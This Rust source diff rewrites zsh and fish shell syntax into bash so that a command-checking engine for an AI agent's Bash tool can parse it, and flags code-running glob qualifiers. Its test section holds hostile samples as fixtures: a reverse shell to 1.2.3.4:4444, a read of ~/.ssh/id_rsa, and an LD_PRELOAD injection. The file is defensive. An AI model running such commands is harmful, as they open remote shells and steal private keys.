@@ -0,0 +1,439 @@
+//! zsh and fish syntax, rewritten for the bash grammar
+//!
+//! The Bash tool runs commands in the user's shell, and tree-sitter-bash
+//! reads zsh glob qualifiers (`rm *(.)`), `=(cmd)` substitutions and
+//! `${(f)var}` flags as parse errors, and fish's `set -x VAR val`, `(cmd)`
+//! substitutions and `; and cmd` as something else entirely. Both
+//! silently weaken the analysis: errors drop it to the regex fallback,
+//! misreads hide commands (`make; and rm -rf build` parses as a command
+//! named `and`). [`to_bash`] rewrites the dialect's constructs into their
+//! bash equivalents before parsing, keeping everything else as written.
+//!
+//! Qualifiers that run code (`*(e:cmd:)`, `*(+func)`) are never dropped;
+//! the engine denies them as dynamic execution, and checks the command as
+//! written as well as the rewrite.
+//!
+//! The dialect comes from `bash.shell` ("auto" reads `$SHELL`). A command
+//! with bash keywords (`then`, `do`, `fi`, ...) is left alone under fish,
+//! since a fish user's agent still writes bash more often than not.
+
+use std::borrow::Cow;
+
+/// Shell syntax a command is written in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Dialect {
+    #[default]
+    Bash,
+    Zsh,
+    Fish,
+}
+
+impl Dialect {
+    /// Dialect of a shell name or path (`/usr/bin/fish`); other shells read
+    /// as bash
+    pub fn from_name(name: &str) -> Self {
+        match name.rsplit('/').next().unwrap_or(name) {
+            "zsh" => Dialect::Zsh,
+            "fish" => Dialect::Fish,
+            _ => Dialect::Bash,
+        }
+    }
+
+    /// Dialect for a `bash.shell` setting: a shell name, or "auto" for the
+    /// one in `$SHELL`
+    pub fn from_config(shell: &str) -> Self {
+        match shell {
+            "auto" => std::env::var("SHELL").map(|s| Self::from_name(&s)).unwrap_or_default(),
+            name => Self::from_name(name),
+        }
+    }
+
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            Dialect::Bash => "bash",
+            Dialect::Zsh => "zsh",
+            Dialect::Fish => "fish",
+        }
+    }
+}
+
+/// `command` rewritten into bash syntax (unchanged for bash)
+pub fn to_bash(command: &str, dialect: Dialect) -> Cow<'_, str> {
+    match dialect {
+        Dialect::Bash => Cow::Borrowed(command),
+        Dialect::Zsh => zsh_to_bash(command),
+        Dialect::Fish => fish_to_bash(command),
+    }
+}
+
+/// Index just past the `)` closing the `(` at `open`
+fn closing_paren(chars: &[char], open: usize) -> Option<usize> {
+    let mut depth = 0;
+    for (i, &c) in chars.iter().enumerate().skip(open) {
+        match c {
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(i + 1);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// Whether `command` has a zsh glob qualifier that runs code for each
+/// match (`*(e:cmd:)`, `*(+func)`): the command it runs is hidden from the
+/// bash grammar, so it is kept as written and checked as dynamic execution
+pub fn has_exec_qualifier(command: &str, dialect: Dialect) -> bool {
+    dialect == Dialect::Zsh && zsh_scan(command).1
+}
+
+/// Drop glob qualifiers (`*(.)`, `**/*(N.om[1,3])`) and globbing flags
+/// (`(#i)`), read `=(cmd)` as `<(cmd)` and `${(f)var}` as `${var}`
+fn zsh_to_bash(command: &str) -> Cow<'_, str> {
+    zsh_scan(command).0
+}
+
+/// [`zsh_to_bash`], and whether a qualifier that runs code (`e`, `+`) was
+/// found and left in place
+fn zsh_scan(command: &str) -> (Cow<'_, str>, bool) {
+    let chars: Vec<char> = command.chars().collect();
+    let mut out = String::with_capacity(command.len());
+    let mut quote = None;
+    let mut changed = false;
+    let mut executes = false;
+    // Start in `out` of the current unquoted word
+    let mut word_start = 0;
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        let prev = i.checked_sub(1).map(|p| chars[p]);
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some('"'), '\\') | (None, '\\') => {
+                out.push(c);
+                out.extend(chars.get(i + 1));
+                i += 2;
+                continue;
+            }
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, c) if c.is_whitespace() => word_start = out.len() + c.len_utf8(),
+            (None, '(') => {
+                // A qualifier follows a glob word (`*.log(N)`); `$(`, `<(`
+                // and extglob's `@(`, `!(`, `+(` are bash
+                let glob_word = out[word_start..].contains(['*', '?', '[']);
+                let qualifier = (glob_word && !matches!(prev, Some('$' | '<' | '>' | '=' | '@' | '!' | '+')))
+                    || chars.get(i + 1) == Some(&'#');
+                if let Some(end) = closing_paren(&chars, i).filter(|_| qualifier) {
+                    let inner = &chars[i + 1..end - 1];
+                    // `e:cmd:` and `+func` run code; any `e` or `+` in a
+                    // qualifier (not a `(#i)` flag) counts, to stay on the safe side
+                    let flag = inner.first() == Some(&'#') && inner.get(1) != Some(&'q');
+                    if !flag && inner.iter().any(|c| matches!(c, 'e' | '+')) {
+                        executes = true;
+                    } else if !inner.iter().any(|c| c.is_whitespace() || *c == '|') {
+                        // Bash extglob alternatives (`*(a|b)`) are kept
+                        changed = true;
+                        i = end;
+                        continue;
+                    }
+                }
+            }
+            (None, '=') if chars.get(i + 1) == Some(&'(') && prev.is_none_or(char::is_whitespace) => {
+                out.push('<');
+                changed = true;
+                i += 1;
+                continue;
+            }
+            (None, '{') if prev == Some('$') && chars.get(i + 1) == Some(&'(') => {
+                if let Some(end) = closing_paren(&chars, i + 1) {
+                    out.push('{');
+                    changed = true;
+                    i = end;
+                    continue;
+                }
+            }
+            _ => {}
+        }
+        out.push(c);
+        i += 1;
+    }
+    let translated = if changed { Cow::Owned(out) } else { Cow::Borrowed(command) };
+    (translated, executes)
+}
+
+/// A fish statement (text between `;`/newlines at the top level), with
+/// `(cmd)` already rewritten to `$(cmd)` and quotes made bash-compatible
+fn fish_statements(command: &str) -> Vec<String> {
+    let mut statements = Vec::new();
+    let mut current = String::new();
+    let mut quote = None;
+    let mut depth = 0usize;
+    let mut chars = command.chars().peekable();
+    let mut prev = None;
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            // fish allows \' and \\ inside single quotes; bash doesn't
+            (Some('\''), '\\') if matches!(chars.peek(), Some('\'' | '\\')) => {
+                let escaped = chars.next().unwrap_or_default();
+                current.push_str(if escaped == '\'' { r"'\''" } else { r"\" });
+            }
+            (Some('"'), '\\') | (None, '\\') => {
+                current.push(c);
+                current.extend(chars.next());
+            }
+            (Some(q), c) if c == q => {
+                quote = None;
+                current.push(c);
+            }
+            (Some(_), c) => current.push(c),
+            (None, '\'' | '"') => {
+                quote = Some(c);
+                current.push(c);
+            }
+            (None, '(') => {
+                // Fish has no subshells, but bash written in a fish session
+                // does: `(cd x && make)` in command position stays as is
+                let trimmed = current.trim_end();
+                let command_position =
+                    trimmed.is_empty() || ["&&", "||", "|", "!"].iter().any(|op| trimmed.ends_with(op));
+                if !command_position && !matches!(prev, Some('$' | '<' | '>')) {
+                    current.push('$');
+                }
+                depth += 1;
+                current.push(c);
+            }
+            (None, ')') => {
+                depth = depth.saturating_sub(1);
+                current.push(c);
+            }
+            (None, '#') if depth == 0 && prev.is_none_or(char::is_whitespace) => {
+                for c in chars.by_ref() {
+                    if c == '\n' {
+                        break;
+                    }
+                }
+                statements.push(std::mem::take(&mut current));
+            }
+            (None, ';' | '\n') if depth == 0 => statements.push(std::mem::take(&mut current)),
+            (None, c) => current.push(c),
+        }
+        prev = Some(c);
+    }
+    statements.push(current);
+    statements.into_iter().map(|s| s.trim().to_string()).filter(|s| !s.is_empty()).collect()
+}
+
+/// Unquoted words of a statement, as written
+fn raw_words(statement: &str) -> Vec<&str> {
+    let mut words = Vec::new();
+    let mut start = None;
+    let mut quote = None;
+    let mut depth = 0usize;
+    let mut escaped = false;
+    for (i, c) in statement.char_indices() {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match (quote, c) {
+            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
+            (Some('"'), '\\') | (None, '\\') => escaped = true,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '(') => depth += 1,
+            (None, ')') => depth = depth.saturating_sub(1),
+            (None, c) if c.is_whitespace() && depth == 0 => {
+                if let Some(s) = start.take() {
+                    words.push(&statement[s..i]);
+                }
+                continue;
+            }
+            _ => {}
+        }
+        start.get_or_insert(i);
+    }
+    if let Some(s) = start {
+        words.push(&statement[s..]);
+    }
+    words
+}
+
+/// `set [-x|-g|-U|-e ...] NAME VALUE...` as an assignment
+fn fish_set(words: &[&str]) -> Option<String> {
+    let flags: Vec<&str> = words[1..].iter().copied().take_while(|w| w.starts_with('-')).collect();
+    let (name, values) = words[1 + flags.len()..].split_first()?;
+    let has = |short: char, long: &str| {
+        flags.iter().any(|f| *f == long || (!f.starts_with("--") && f[1..].contains(short)))
+    };
+    if has('e', "--erase") {
+        return Some(format!("unset {}", name));
+    }
+    if has('q', "--query") || has('n', "--names") {
+        return None;
+    }
+    let separator = if name.ends_with("PATH") { ":" } else { "' '" };
+    let value = match values {
+        [] => "''".to_string(),
+        values => values.join(separator),
+    };
+    let export = if has('x', "--export") { "export " } else { "" };
+    Some(format!("{}{}={}", export, name, value))
+}
+
+/// A block `end` closes
+enum Block {
+    Fi,
+    Done,
+    Brace,
+    /// `switch`, with whether a `case` is open
+    Case(bool),
+}
+
+/// Rewrite fish statements, blocks and `and`/`or`/`not` into bash
+fn fish_to_bash(command: &str) -> Cow<'_, str> {
+    const BASH_KEYWORDS: &[&str] = &["then", "do", "done", "fi", "esac", "elif"];
+    let statements = fish_statements(command);
+    let is_bash = statements.iter().any(|s| {
+        let words = raw_words(s);
+        words.first().is_some_and(|w| BASH_KEYWORDS.contains(w))
+            || (words.first() == Some(&"case") && words.last() == Some(&"in"))
+    });
+    if is_bash {
+        return Cow::Borrowed(command);
+    }
+
+    let mut lines: Vec<String> = Vec::new();
+    let mut blocks: Vec<Block> = Vec::new();
+    for statement in &statements {
+        let words = raw_words(statement);
+        let Some(&first) = words.first() else {
+            continue;
+        };
+        let rest = statement[first.len()..].trim_start();
+        let line = match first {
+            "and" | "or" if !lines.is_empty() && !rest.is_empty() => {
+                let joined = if first == "and" { "&&" } else { "||" };
+                let last = lines.pop().unwrap_or_default();
+                format!("{} {} {}", last, joined, rest)
+            }
+            "not" if !rest.is_empty() => format!("! {}", rest),
+            "set" => fish_set(&words).unwrap_or_else(|| statement.clone()),
+            "begin" => {
+                blocks.push(Block::Brace);
+                format!("{{\n{}", rest)
+            }
+            "if" => {
+                blocks.push(Block::Fi);
+                format!("if {}; then", rest)
+            }
+            "else" if words.get(1) == Some(&"if") => {
+                format!("elif {}; then", rest.trim_start_matches("if").trim_start())
+            }
+            "while" => {
+                blocks.push(Block::Done);
+                format!("while {}; do", rest)
+            }
+            "for" => {
+                blocks.push(Block::Done);
+                format!("for {}; do", rest)
+            }
+            "function" => {
+                blocks.push(Block::Brace);
+                format!("{}() {{", words.get(1).unwrap_or(&"_"))
+            }
+            "switch" => {
+                blocks.push(Block::Case(false));
+                format!("case {} in", rest)
+            }
+            "case" => match blocks.last_mut() {
+                Some(Block::Case(open)) => {
+                    let patterns = words[1..].join("|");
+                    let close = if *open { ";;\n" } else { "" };
+                    *open = true;
+                    format!("{}{})", close, if patterns.is_empty() { "*" } else { &patterns })
+                }
+                _ => statement.clone(),
+            },
+            "end" => match blocks.pop() {
+                Some(Block::Fi) => "fi".to_string(),
+                Some(Block::Done) => "done".to_string(),
+                Some(Block::Brace) => "}".to_string(),
+                Some(Block::Case(open)) => if open { ";;\nesac" } else { "esac" }.to_string(),
+                None => statement.clone(),
+            },
+            _ => statement.clone(),
+        };
+        lines.push(line);
+    }
+    let translated = lines.join("\n");
+    if translated == command {
+        Cow::Borrowed(command)
+    } else {
+        Cow::Owned(translated)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_zsh_rewrites() {
+        let zsh = |c| to_bash(c, Dialect::Zsh).into_owned();
+        assert_eq!(zsh("rm -rf *(.)"), "rm -rf *");
+        assert_eq!(zsh("rm -f **/*.log(N.om[1,3])"), "rm -f **/*.log");
+        assert_eq!(zsh("ls (#i)readme*"), "ls readme*");
+        assert_eq!(zsh("diff =(ls a) =(ls b)"), "diff <(ls a) <(ls b)");
+        assert_eq!(zsh("echo ${(f)lines}"), "echo ${lines}");
+        assert_eq!(zsh("git log --format='*(x)' && ls @(a|b)"), "git log --format='*(x)' && ls @(a|b)");
+        assert!(matches!(to_bash("ls -la", Dialect::Zsh), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn test_zsh_exec_qualifiers_kept() {
+        for command in [
+            "ls *(e:bash${IFS}-i>&/dev/tcp/1.2.3.4/4444:)",
+            "ls *(e:cat${IFS}~/.ssh/id_rsa:)",
+            "rm -rf *(.+cleanup)",
+            "ls **/*(#qe'reply=(x)')",
+        ] {
+            assert!(has_exec_qualifier(command, Dialect::Zsh), "{}", command);
+            assert_eq!(to_bash(command, Dialect::Zsh), command);
+            assert!(!has_exec_qualifier(command, Dialect::Bash));
+        }
+        assert!(!has_exec_qualifier("rm -rf *(.om[1,3]) (#i)readme*", Dialect::Zsh));
+    }
+
+    #[test]
+    fn test_fish_rewrites() {
+        let fish = |c| to_bash(c, Dialect::Fish).into_owned();
+        assert_eq!(fish("set -x LD_PRELOAD /tmp/x.so; ./app"), "export LD_PRELOAD=/tmp/x.so\n./app");
+        assert_eq!(fish("set -gx PATH /tmp/bin $PATH"), "export PATH=/tmp/bin:$PATH");
+        assert_eq!(fish("set -e TOKEN"), "unset TOKEN");
+        assert_eq!(fish("make; and rm -rf build; or echo failed"), "make && rm -rf build || echo failed");
+        assert_eq!(fish("rm (cat list.txt)"), "rm $(cat list.txt)");
+        assert_eq!(fish(r"echo 'it\'s'"), r"echo 'it'\''s'");
+        assert_eq!(
+            fish("if test -d build; rm -rf build; else; echo none; end"),
+            "if test -d build; then\nrm -rf build\nelse\necho none\nfi"
+        );
+        assert_eq!(fish("for f in *.tmp; rm $f; end"), "for f in *.tmp; do\nrm $f\ndone");
+        assert_eq!(
+            fish("switch $x; case a b; rm -rf a; case '*'; true; end"),
+            "case $x in\na|b)\nrm -rf a\n;;\n'*')\ntrue\n;;\nesac"
+        );
+    }
+
+    #[test]
+    fn test_fish_leaves_bash_alone() {
+        let command = "if [ -d build ]; then rm -rf build; fi && echo $(date)";
+        assert_eq!(to_bash(command, Dialect::Fish), command);
+        assert_eq!(to_bash("git status && cargo test", Dialect::Fish), "git status && cargo test");
+        assert_eq!(to_bash("(cd web && npm ci)", Dialect::Fish), "(cd web && npm ci)");
+    }
+}